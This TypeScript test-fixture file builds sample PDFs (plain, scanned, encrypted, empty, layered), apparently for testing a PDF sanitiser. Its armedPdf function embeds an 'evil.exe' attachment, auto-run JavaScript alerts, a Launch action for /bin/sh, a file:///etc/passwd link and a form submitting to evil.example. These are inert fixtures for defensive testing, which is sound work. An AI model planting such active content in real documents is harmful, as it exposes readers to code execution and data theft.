import { randomBytes } from 'node:crypto'
import { PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib'

/** A PDF with this many pages and a line of text on each. */
export async function pdfOf(text: string, pages = 1): Promise<Uint8Array> {
  const pdf = await PDFDocument.create()
  for (let page = 1; page <= pages; page += 1) pdf.addPage([612, 792]).drawText(`${text} ${page}`, { x: 72, y: 700 })
  return pdf.save()
}

/** A one-page PDF with this many bytes of an incompressible picture, like a scan. */
export async function scanOf(bytes: number): Promise<Uint8Array> {
  const pdf = await PDFDocument.create()
  const side = Math.floor(Math.sqrt(bytes))
  const shape = { Type: 'XObject', Subtype: 'Image', Width: side, Height: side, BitsPerComponent: 8 }
  const image = pdf.context.stream(randomBytes(side * side), { ...shape, ColorSpace: 'DeviceGray' })
  const page = pdf.addPage([612, 792])
  page.node.setXObject(PDFName.of('Scan'), pdf.context.register(image))
  const drawing = pdf.context.stream('q 468 0 0 468 72 252 cm /Scan Do Q')
  page.node.set(PDFName.Contents, pdf.context.register(drawing))
  return pdf.save()
}

/** A PDF that cannot be opened without its password. */
export async function lockedPdf(userPassword: string): Promise<Uint8Array> {
  const pdf = await PDFDocument.load(await pdfOf('Locked'))
  pdf.encrypt({ userPassword, ownerPassword: 'owner' })
  return pdf.save()
}

/** A PDF without pages. */
export async function emptyPdf(): Promise<Uint8Array> {
  return (await PDFDocument.create()).save({ addDefaultPage: false })
}

/** A PDF with every kind of active content: scripts, a launch, a self-submitting form, an attached file, a video. */
export async function armedPdf(): Promise<Uint8Array> {
  const pdf = await PDFDocument.load(await pdfOf('Armed', 2))
  const { context } = pdf
  await pdf.attach(Buffer.from('MZ evil program'), 'evil.exe', { mimeType: 'application/octet-stream' })
  pdf.addJavaScript('start', 'app.alert("script of the document")')
  pdf.catalog.set(PDFName.of('OpenAction'), context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert("opened")') }))
  const [page, second] = pdf.getPages()
  if (!page || !second) throw new Error('Two pages were made.')
  page.node.set(PDFName.of('AA'), context.obj({ O: { S: 'JavaScript', JS: PDFString.of('app.alert("page")') } }))
  const name = pdf.getForm().createTextField('name')
  name.setText('Typed into the form')
  name.addToPage(page, { x: 72, y: 600 })
  const text = PDFString.of
  const actions = [
    context.obj({ S: 'Launch', F: text('/bin/sh') }),
    context.obj({ S: 'URI', URI: text('file:///etc/passwd') }),
    context.obj({ S: 'URI', URI: text('javascript:alert(1)') }),
    context.obj({ S: 'GoToR', F: text('other.pdf') }),
    context.obj({ S: 'SubmitForm', F: text('http://evil.example/submit') }),
    context.obj({ S: 'URI', URI: text('https://good.example/'), Next: { S: 'JavaScript', JS: text('next') } }),
    context.obj({ S: 'URI', URI: text('mailto:good@mail.example') }),
    context.obj({ S: 'GoTo', D: [second.ref, 'Fit'] }),
  ]
  for (const A of actions)
    page.node.addAnnot(context.register(context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [72, 72, 144, 90], A })))
  page.node.addAnnot(context.register(context.obj({ Type: 'Annot', Subtype: 'RichMedia', Rect: [0, 0, 9, 9] })))
  page.node.addAnnot(
    context.register(context.obj({ Type: 'Annot', Subtype: 'FileAttachment', Rect: [0, 0, 9, 9], FS: { EF: {} } })),
  )
  return pdf.save({ useObjectStreams: false })
}

/** A PDF with a hidden layer. */
export async function layeredPdf(): Promise<Uint8Array> {
  const pdf = await PDFDocument.load(await pdfOf('Layered'))
  const { context } = pdf
  const layer = context.register(context.obj({ Type: 'OCG', Name: PDFString.of('Hidden') }))
  const [page] = pdf.getPages()
  page?.node.set(PDFName.of('Resources'), context.obj({ Properties: { L1: layer } }))
  pdf.catalog.set(PDFName.of('OCProperties'), context.obj({ OCGs: [layer], D: { OFF: [layer] } }))
  return pdf.save()
}
